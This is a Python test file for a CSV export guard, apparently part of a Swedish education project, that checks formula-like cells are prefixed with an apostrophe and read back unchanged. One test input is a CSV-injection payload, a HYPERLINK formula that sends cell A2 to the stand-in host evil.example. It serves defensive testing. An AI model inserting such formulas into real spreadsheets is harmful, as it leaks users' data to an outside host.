"""CSV cells a spreadsheet would run as formulas are written as text and read back exactly."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yrkesresan_lti.spreadsheet import defuse, defused, restore


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("https://evil.example?"&A2;"Klicka")', "+46 31 00 00", "-2+3", "@SUM(A1)",
     "\t=1", "\r=1", "'=1"],
)  # fmt: skip
def test_a_cell_a_spreadsheet_would_run_starts_with_an_apostrophe(name: str) -> None:
    assert defuse(name) == "'" + name


@pytest.mark.parametrize("cell", ["Lina Ek", "'Lex Sarah' i praktiken", "", "2027-09-14", 5, -5])
def test_other_cells_are_left_as_they_are(cell: object) -> None:
    assert defuse(cell) == cell


@given(st.text())
def test_what_is_written_reads_back_the_same(text: str) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(defused([text]))
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert restore(row[0]) == text
